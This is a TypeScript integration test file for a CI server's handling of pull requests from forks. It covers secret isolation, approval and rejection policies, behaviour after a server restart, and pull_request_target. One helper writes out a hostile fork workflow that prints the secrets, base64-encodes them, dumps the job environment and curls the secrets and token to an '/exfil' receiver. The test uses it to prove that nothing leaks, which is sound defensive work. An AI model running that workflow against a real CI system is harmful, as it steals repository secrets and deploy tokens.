// Pull requests from forks against a real `slipway serve`, tried as the fork's author would: the fork's
// workflow prints the secrets, their base64, the job's environment, writes the environment to a file and
// curls them to a receiver of its own; its slipway.yaml points `notify:` at that receiver (signing with a
// repository secret). None of it may see a secret value, and the fork's notify: is never used (the base
// commit's is). The same delivery starts the base branch's pull_request_target workflow at the base
// branch's last commit, with secrets. Per repository: require-approval holds the fork's run until a
// developer approves it (still without secrets) or rejects it; off starts nothing.
import { createHash, randomBytes } from "node:crypto";
import { chmodSync, existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect } from "vitest";
import { startReceiver } from "../../../src/notify/testing.js";
import {
  addRepo,
  api,
  cleanupAfterAll,
  type GitRepo,
  getRun,
  type Harness,
  listRuns,
  logText,
  makeRepo,
  pullRequestPayload,
  type Server,
  sendWebhook,
  sleep,
  tempDir,
  test,
  waitFor,
  waitForRun,
} from "../server/helpers.js";

cleanupAfterAll();

// Each test starts servers and a dozen CLI processes; on a busy machine that takes a while.
const slow = 120_000;

const fullName = "acme/app";
type Receiver = Awaited<ReturnType<typeof startReceiver>>;

const baseCi = `name: CI
on: pull_request
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo BASE-CI
`;

// The base branch's pull_request_target workflow: it checks out what GITHUB_SHA names.
const baseTarget = `name: Target
on: pull_request_target
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: |
          echo "TARGET-FROM-BASE sha=\${{ github.sha }} ref=\${{ github.ref }} event=\${{ github.event_name }}"
          echo "has-secret=\${{ secrets.API_KEY != '' }}"
          printf 'secret-sha=%s\\n' "$(printf '%s' '\${{ secrets.API_KEY }}' | sha256sum | cut -c1-64)"
          if test -f base-latest.txt && ! test -f fork-only.txt; then echo checked-out=base; fi
`;

/** The fork's own workflow: everything a fork's author would try to get the secrets out. */
function forkCi(receiver: string, dumpDir: string): string {
  return `name: CI
on: pull_request
jobs:
  steal:
    runs-on: ubuntu-latest
    env:
      FROM_ENV: \${{ secrets.API_KEY }}
      GLOBAL: \${{ secrets.GLOBAL_KEY }}
      TOKEN: \${{ secrets.DEPLOY_TOKEN }}
      GH_TOKEN: \${{ github.token }}
    steps:
      - run: |
          echo "direct=\${{ secrets.API_KEY }}|\${{ secrets.GLOBAL_KEY }}|\${{ secrets.DEPLOY_TOKEN }}|\${{ github.token }}"
          echo 'all=\${{ toJSON(secrets) }}'
          printf 'b64=%s\\n' "$(printf '%s' "$FROM_ENV|$GLOBAL|$TOKEN" | base64 -w0)"
          for v in "$FROM_ENV" "$GLOBAL" "$TOKEN"; do printf 'sha=%s\\n' "$(printf '%s' "$v" | sha256sum | cut -c1-64)"; done
          env | sort
          env > "${dumpDir}/env-$GITHUB_RUN_ATTEMPT.txt"
          curl -sS -m 10 --data-binary "key=$FROM_ENV global=$GLOBAL token=$TOKEN gh=$GH_TOKEN b64=$(printf '%s' "$FROM_ENV" | base64 -w0) all=\${{ toJSON(secrets) }}" "${receiver}/exfil"
          echo FORK-CODE-RAN
      - name: Deploy from the fork
        continue-on-error: true
        uses: slipway/deploy@v1
        with:
          env: production
`;
}

const forkTarget = `name: Target
on: pull_request_target
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: echo TARGET-FROM-FORK
`;

const notifyTo = (url: string, secretName?: string) =>
  [
    "notify:",
    "  channels:",
    `    hook: { webhook: { url: "${url}"${secretName ? `, secret_name: ${secretName}` : ""} } }`,
    "  rules:",
    "    - { on: [run.completed], channels: [hook] }",
    "",
  ].join("\n");

type Secrets = { API_KEY: string; GLOBAL_KEY: string; DEPLOY_TOKEN: string };

const sha256 = (v: string) => createHash("sha256").update(v).digest("hex");

/** Every form in which a secret would show: its value, its base64 and its hash (which no masker hides). */
function forbidden(secrets: Secrets): string[] {
  const values = Object.values(secrets);
  return [...values, ...values.map((v) => Buffer.from(v).toString("base64")), ...values.map(sha256)];
}

function expectNoSecret(text: string, secrets: Secrets, where: string): void {
  for (const f of forbidden(secrets)) expect(text.includes(f), `${where} holds ${f}`).toBe(false);
}

/**
 * A repository whose main branch has the base workflows and notify: (to /base), and a fork's commit
 * only reachable as refs/pull/<n>/head (as GitHub keeps it) with the fork's workflows and notify: (to
 * /fork). main then moves on, so the base branch's last commit is newer than the payload's base.sha.
 */
function forkedRepo(receiver: Receiver, dumpDir: string, number: number) {
  const repo = makeRepo({
    "README.md": "hello\n",
    ".github/workflows/ci.yml": baseCi,
    ".github/workflows/target.yml": baseTarget,
    "slipway.yaml": notifyTo(`${receiver.url}/base`),
  });
  const baseSha = repo.head();
  const headSha = addForkHead(repo, receiver, dumpDir, number);
  const baseHead = repo.commit({ "base-latest.txt": "base moved on\n" }, "Base moves on");
  return { repo, baseSha, headSha, baseHead };
}

function addForkHead(repo: GitRepo, receiver: Receiver, dumpDir: string, number: number): string {
  repo.git("checkout", "-q", "-b", `fork-${number}`);
  const headSha = repo.commit(
    {
      ".github/workflows/ci.yml": forkCi(receiver.url, dumpDir),
      ".github/workflows/target.yml": forkTarget,
      "slipway.yaml": notifyTo(`${receiver.url}/fork`, "API_KEY"),
      "fork-only.txt": "from the fork\n",
    },
    `Fork change ${number}`,
  );
  repo.git("update-ref", `refs/pull/${number}/head`, headSha);
  repo.git("checkout", "-q", "main");
  repo.git("branch", "-q", "-D", `fork-${number}`);
  return headSha;
}

/** GitHub's pull_request example from the fork mallory/app (its head repository is the fork). */
function forkPullRequest(
  repo: GitRepo,
  o: { number: number; headSha: string; baseSha: string; author?: string; deletedFork?: boolean },
) {
  const p = pullRequestPayload(repo, fullName, {
    action: "opened",
    number: o.number,
    title: `Fork change ${o.number}`,
    author: o.author ?? "mallory",
    headRef: "main",
    headSha: o.headSha,
    baseSha: o.baseSha,
  });
  p.pull_request.head.repo = o.deletedFork
    ? null
    : {
        ...p.pull_request.head.repo,
        id: 990_001,
        name: "app",
        full_name: "mallory/app",
        fork: true,
        owner: { ...p.pull_request.head.repo.owner, login: "mallory" },
        clone_url: "https://example.test/mallory/app.git",
      };
  p.pull_request.head.label = "mallory:main";
  return p;
}

async function setSecrets(server: Server): Promise<Secrets> {
  const secrets: Secrets = {
    API_KEY: `repo-secret-${randomBytes(12).toString("hex")}`,
    GLOBAL_KEY: `global-secret-${randomBytes(12).toString("hex")}`,
    DEPLOY_TOKEN: `deploy-token-${randomBytes(16).toString("hex")}`,
  };
  for (const [name, value] of Object.entries(secrets)) {
    const r = await api(server, "POST", "/api/v1/secrets", {
      name,
      value,
      ...(name === "GLOBAL_KEY" ? {} : { repo: fullName }),
    });
    expect(r.status).toBe(201);
  }
  return secrets;
}

async function setup(h: Harness, number: number) {
  const receiver = await startReceiver(() => ({ status: 200, body: "ok" }));
  const dumpDir = tempDir("slipway-fork-dump-");
  // The fork's steps run as an unprivileged user (forks-isolation.test.ts): its drop box is open to it.
  chmodSync(dumpDir, 0o777);
  const forked = forkedRepo(receiver, dumpDir, number);
  const server = await h.startServer({ env: { SLIPWAY_NOTIFY_RETRY_MS: "300" } });
  const hookSecret = await addRepo(server, forked.repo, fullName);
  const secrets = await setSecrets(server);
  return { receiver, dumpDir, server, hookSecret, secrets, ...forked };
}

const byPath = (receiver: Receiver, prefix: string) =>
  receiver.requests.filter((r) => r.path.startsWith(prefix));

async function developerToken(server: Server, name: string): Promise<string> {
  const r = await api<{ token: string }>(server, "POST", "/api/v1/tokens", { name, role: "developer" });
  expect(r.status).toBe(201);
  return r.body.token;
}

describe("pull requests from forks", { concurrent: true }, () => {
  test(
    "a fork's workflow runs without any secret; its notify: is ignored; pull_request_target runs the base branch's workflow with secrets",
    async ({ h }) => {
      const s = await setup(h, 7);
      try {
        const res = await sendWebhook(
          s.server,
          "pull_request",
          forkPullRequest(s.repo, { number: 7, headSha: s.headSha, baseSha: s.baseSha }),
          s.hookSecret,
        );
        expect(res.status).toBe(202);
        expect(res.body.runs).toHaveLength(2);
        const runs = await listRuns(s.server);
        const forkRun = runs.find((r) => r.eventName === "pull_request")!;
        const targetRun = runs.find((r) => r.eventName === "pull_request_target")!;
        expect(forkRun).toBeDefined();
        expect(targetRun).toBeDefined();

        // The fork's own workflow ran (its marker and its curl arrived), and saw no secret anywhere.
        const forkView = await waitForRun(s.server, forkRun.id);
        expect(forkView.run).toMatchObject({ conclusion: "success", sha: s.headSha, fork: true });
        const forkLog = await logText(s.server, forkRun.id);
        expect(forkLog).toContain("FORK-CODE-RAN");
        expect(forkLog).toContain("direct=|||");
        expect(forkLog).toContain("all={}");
        // Nor can it deploy with the server's deploy secrets and spec.
        expect(forkLog).toContain(
          "slipway/deploy does not run for a pull request from a fork: its code gets no secrets and cannot deploy",
        );
        expectNoSecret(forkLog, s.secrets, "the fork run's log");
        const env = readFileSync(join(s.dumpDir, "env-1.txt"), "utf8");
        expect(env).toMatch(/^FROM_ENV=$/m);
        expectNoSecret(env, s.secrets, "the fork job's environment");
        const exfil = await waitFor("the fork's curl", () => byPath(s.receiver, "/exfil")[0]);
        expect(exfil.text).toMatch(/^key= global= token= gh= b64= all=\{\}/);
        expectNoSecret(exfil.text, s.secrets, "what the fork sent out");

        // runs show says whose code ran, and with what.
        const show = await h.cliOk(s.server, ["runs", "show", String(forkRun.id)]);
        expect(show.stdout).toContain(
          "fork pull request from mallory/app: its own workflow, without secrets",
        );

        // pull_request_target: the base branch's workflow (not the fork's), at the base branch's last
        // commit (not the payload's older base.sha), checked out there, with the secrets.
        const targetView = await waitForRun(s.server, targetRun.id);
        expect(targetView.run).toMatchObject({
          conclusion: "success",
          sha: s.baseHead,
          ref: "refs/heads/main",
          fork: true,
        });
        const targetLog = await logText(s.server, targetRun.id);
        expect(targetLog).toContain(
          `TARGET-FROM-BASE sha=${s.baseHead} ref=refs/heads/main event=pull_request_target`,
        );
        expect(targetLog).not.toContain("TARGET-FROM-FORK");
        expect(targetLog).toContain("has-secret=true");
        expect(targetLog).toContain(`secret-sha=${sha256(s.secrets.API_KEY)}`);
        expect(targetLog).toContain("checked-out=base");

        // Notifications: both runs go to the base commit's channel; the fork's never gets anything.
        await s.receiver.waitFor(3, 20_000);
        await sleep(1000);
        expect(byPath(s.receiver, "/base")).toHaveLength(2);
        expect(byPath(s.receiver, "/fork")).toHaveLength(0);

        // A re-run of the fork's run is still the fork's code: still no secrets.
        await h.cliOk(s.server, ["rerun", String(forkRun.id), "--job", "steal"]);
        const again = await waitForRun(s.server, forkRun.id, {
          until: (v) => v.run.attempt === 2 && v.run.status === "completed",
        });
        expect(again.run.conclusion).toBe("success");
        const env2 = readFileSync(join(s.dumpDir, "env-2.txt"), "utf8");
        expectNoSecret(env2, s.secrets, "the re-run's environment");
        expectNoSecret(await logText(s.server, forkRun.id, 2), s.secrets, "the re-run's log");
        const exfil2 = byPath(s.receiver, "/exfil");
        expect(exfil2).toHaveLength(2);
        expectNoSecret(exfil2[1].text, s.secrets, "what the re-run sent out");
      } finally {
        await s.receiver.close();
      }
    },
    slow,
  );

  test(
    "require-approval: the fork's run waits and runs nothing; a developer other than its author approves it and it runs without secrets",
    async ({ h }) => {
      const s = await setup(h, 8);
      try {
        const set = await h.cliOk(s.server, [
          "repo",
          "set",
          fullName,
          "--fork-pull-requests",
          "require-approval",
          "--json",
        ]);
        expect(set.json.forkPullRequests).toBe("require-approval");
        const bad = await h.cli(s.server, ["repo", "set", fullName, "--fork-pull-requests", "sometimes"]);
        expect(bad.code).toBe(2);
        expect(bad.stderr).toContain('invalid fork pull request policy "sometimes"');

        const res = await sendWebhook(
          s.server,
          "pull_request",
          forkPullRequest(s.repo, { number: 8, headSha: s.headSha, baseSha: s.baseSha }),
          s.hookSecret,
        );
        expect(res.status).toBe(202);
        const runs = await listRuns(s.server);
        const forkRun = runs.find((r) => r.eventName === "pull_request")!;
        expect(forkRun).toMatchObject({ status: "waiting", fork: true });
        expect(forkRun.reason).toMatch(/^waiting for approval: a pull request from a fork \(mallory\/app\)/);
        // The base branch's pull_request_target workflow needs no approval.
        const targetRun = runs.find((r) => r.eventName === "pull_request_target")!;
        expect((await waitForRun(s.server, targetRun.id)).run.conclusion).toBe("success");

        // Nothing of the fork's ran.
        await sleep(1500);
        const held = await h.cliOk(s.server, ["runs", "show", String(forkRun.id), "--json"]);
        expect(held.json.run.status).toBe("waiting");
        expect(held.json.attempts[0].jobs).toEqual([]);
        expect(byPath(s.receiver, "/exfil")).toHaveLength(0);
        expect(existsSync(join(s.dumpDir, "env-1.txt"))).toBe(false);
        const waiting = await h.cliOk(s.server, ["runs", "list", "--status", "waiting", "--json"]);
        expect(waiting.json.map((r: { id: number }) => r.id)).toEqual([forkRun.id]);

        // The pull request's author cannot approve it; a viewer cannot either.
        const mallory = await developerToken(s.server, "mallory");
        const self = await h.cli(s.server, ["approve", String(forkRun.id)], { token: mallory });
        expect(self.code).toBe(2);
        expect(self.stderr).toContain("mallory opened pull request #8 and cannot approve its run");
        const viewer = await api<{ token: string }>(s.server, "POST", "/api/v1/tokens", {
          name: "watcher",
          role: "viewer",
        });
        const denied = await api(
          s.server,
          "POST",
          `/api/v1/runs/${forkRun.id}/approve`,
          {},
          viewer.body.token,
        );
        expect(denied.status).toBe(403);
        expect((await api(s.server, "GET", `/api/v1/runs/${forkRun.id}`)).body.run.status).toBe("waiting");

        // A developer approves: it runs, still without secrets.
        const alice = await developerToken(s.server, "alice");
        const approved = await h.cliOk(s.server, ["approve", String(forkRun.id)], { token: alice });
        expect(approved.stdout).toContain(`run ${forkRun.id}: approved`);
        const view = await waitForRun(s.server, forkRun.id);
        expect(view.run.conclusion).toBe("success");
        const log = await logText(s.server, forkRun.id);
        expect(log).toContain("FORK-CODE-RAN");
        expectNoSecret(log, s.secrets, "the approved run's log");
        expectNoSecret(readFileSync(join(s.dumpDir, "env-1.txt"), "utf8"), s.secrets, "its environment");
        const [exfil] = byPath(s.receiver, "/exfil");
        expectNoSecret(exfil.text, s.secrets, "what the approved run sent out");
        // The approval is recorded, and shown.
        const audited = await h.cliOk(s.server, ["runs", "show", String(forkRun.id), "--json"]);
        expect(audited.json.approvals).toEqual([
          expect.objectContaining({ action: "run.approve", actor: "alice" }),
        ]);
        const again = await h.cli(s.server, ["approve", String(forkRun.id)], { token: alice });
        expect(again.code).toBe(2);
        expect(again.stderr).toContain(`run ${forkRun.id} is not waiting for approval (it is success)`);
      } finally {
        await s.receiver.close();
      }
    },
    slow,
  );

  test(
    "require-approval: a rejected run ends cancelled with who rejected it and why, and never runs",
    async ({ h }) => {
      const s = await setup(h, 9);
      try {
        const set = await api(s.server, "PATCH", `/api/v1/repos/${fullName}`, {
          forkPullRequests: "require-approval",
        });
        expect(set.status).toBe(200);
        const unknown = await api(s.server, "PATCH", `/api/v1/repos/${fullName}`, {
          fork_pull_requests: "off",
        });
        expect(unknown.status).toBe(400);
        expect(unknown.body.error).toContain('cannot change "fork_pull_requests"');
        const alice = await developerToken(s.server, "alice");
        // A pull request from the fork: rejected with a reason, it ends without running.
        const res9 = await sendWebhook(
          s.server,
          "pull_request",
          forkPullRequest(s.repo, { number: 9, headSha: s.headSha, baseSha: s.baseSha }),
          s.hookSecret,
        );
        expect(res9.status).toBe(202);
        const run9 = (await listRuns(s.server)).find(
          (r) => r.eventName === "pull_request" && r.pullRequest?.number === 9,
        )!;
        expect(run9.status).toBe("waiting");
        const badReason = await api(s.server, "POST", `/api/v1/runs/${run9.id}/reject`, {
          reason: "line one\nline two",
        });
        expect(badReason.status).toBe(400);
        expect((await api(s.server, "GET", `/api/v1/runs/${run9.id}`)).body.run.status).toBe("waiting");
        const rejected = await h.cliOk(
          s.server,
          ["reject", String(run9.id), "--reason", "mines bitcoin", "--json"],
          { token: alice },
        );
        expect(rejected.json).toMatchObject({
          status: "completed",
          conclusion: "cancelled",
          reason: "rejected by alice: mines bitcoin",
        });
        const rejectedView = await h.cliOk(s.server, ["runs", "show", String(run9.id), "--json"]);
        expect(rejectedView.json.attempts[0].jobs).toEqual([]);
        expect(rejectedView.json.approvals).toEqual([
          expect.objectContaining({ action: "run.reject", actor: "alice" }),
        ]);
        await sleep(1000);
        expect(byPath(s.receiver, "/exfil")).toHaveLength(0);
        expect(existsSync(join(s.dumpDir, "env-1.txt"))).toBe(false);
      } finally {
        await s.receiver.close();
      }
    },
    slow,
  );

  test(
    "a run waiting for approval still waits after the server is killed and restarted; approving it then runs it without secrets",
    async ({ h }) => {
      const receiver = await startReceiver(() => ({ status: 200, body: "ok" }));
      try {
        const dumpDir = tempDir("slipway-fork-dump-");
        // The fork's steps run as an unprivileged user (forks-isolation.test.ts): its drop box is open to it.
        chmodSync(dumpDir, 0o777);
        const { repo, baseSha, headSha } = forkedRepo(receiver, dumpDir, 12);
        const dataDir = join(tempDir("slipway-fork-server-"), "data");
        const server = await h.startServer({ dataDir });
        const added = await api<{ repo: { forkPullRequests: string }; webhookSecret: string }>(
          server,
          "POST",
          "/api/v1/repos",
          { url: repo.dir, name: fullName, forkPullRequests: "require-approval" },
        );
        expect(added.status).toBe(201);
        expect(added.body.repo.forkPullRequests).toBe("require-approval");
        const secrets = await setSecrets(server);
        const res = await sendWebhook(
          server,
          "pull_request",
          forkPullRequest(repo, { number: 12, headSha, baseSha }),
          added.body.webhookSecret,
        );
        expect(res.status).toBe(202);
        const runs = await listRuns(server);
        const forkRun = runs.find((r) => r.eventName === "pull_request")!;
        expect(forkRun.status).toBe("waiting");
        await waitForRun(server, runs.find((r) => r.eventName === "pull_request_target")!.id);

        server.kill("SIGKILL");
        await server.exited;
        const again = await h.startServer({ dataDir });
        await sleep(1500);
        const held = await getRun(again, forkRun.id);
        expect(held.run.status).toBe("waiting");
        expect(held.attempts[0].jobs).toEqual([]);
        expect(byPath(receiver, "/exfil")).toHaveLength(0);

        const approved = await api(again, "POST", `/api/v1/runs/${forkRun.id}/approve`, {});
        expect(approved.status).toBe(202);
        const view = await waitForRun(again, forkRun.id);
        expect(view.run.conclusion).toBe("success");
        expectNoSecret(
          readFileSync(join(dumpDir, "env-1.txt"), "utf8"),
          secrets,
          "the approved run's environment",
        );
        const [exfil] = byPath(receiver, "/exfil");
        expect(exfil.text).toMatch(/^key= global= token= gh= b64= all=\{\}/);
      } finally {
        await receiver.close();
      }
    },
    slow,
  );

  test(
    "off: a fork's pull request (a deleted fork's too) starts nothing and the webhook says why; the repository's own pull requests still run",
    async ({ h }) => {
      const receiver = await startReceiver(() => ({ status: 200, body: "ok" }));
      try {
        const dumpDir = tempDir("slipway-fork-dump-");
        // The fork's steps run as an unprivileged user (forks-isolation.test.ts): its drop box is open to it.
        chmodSync(dumpDir, 0o777);
        const { repo, baseSha, headSha } = forkedRepo(receiver, dumpDir, 10);
        const server = await h.startServer();
        // A bad policy registers nothing.
        const bad = await h.cli(server, [
          "repo",
          "add",
          repo.dir,
          "--name",
          fullName,
          "--fork-pull-requests",
          "never",
        ]);
        expect(bad.code).toBe(2);
        expect(bad.stderr).toContain('invalid fork pull request policy "never"');
        expect((await api(server, "GET", "/api/v1/repos")).body.repos).toEqual([]);

        const added = await h.cliOk(server, [
          "repo",
          "add",
          repo.dir,
          "--name",
          fullName,
          "--fork-pull-requests",
          "off",
          "--json",
        ]);
        expect(added.json.repo.forkPullRequests).toBe("off");
        const hookSecret = added.json.webhookSecret as string;

        for (const deletedFork of [false, true]) {
          const res = await sendWebhook(
            server,
            "pull_request",
            forkPullRequest(repo, { number: 10, headSha, baseSha, deletedFork }),
            hookSecret,
          );
          expect(res.status).toBe(202);
          expect(res.body).toEqual({ ok: true, ignored: "fork pull requests are off for this repository" });
        }
        await sleep(1000);
        expect(await listRuns(server)).toEqual([]);
        expect(receiver.requests).toEqual([]);

        // A pull request between the repository's own branches is not a fork's: it runs.
        repo.git("checkout", "-q", "-b", "feature");
        const own = repo.commit({ "feature.txt": "x\n" }, "Own change");
        repo.git("checkout", "-q", "main");
        const res = await sendWebhook(
          server,
          "pull_request",
          pullRequestPayload(repo, fullName, {
            action: "opened",
            number: 11,
            title: "Own change",
            author: "alice",
            headRef: "feature",
            headSha: own,
            baseSha: repo.head(),
          }),
          hookSecret,
        );
        expect(res.status).toBe(202);
        expect(res.body.runs).toHaveLength(2);
        for (const id of res.body.runs as number[]) {
          const view = await waitForRun(server, id);
          expect(view.run).toMatchObject({ conclusion: "success", fork: false });
        }
      } finally {
        await receiver.close();
      }
    },
    slow,
  );
});
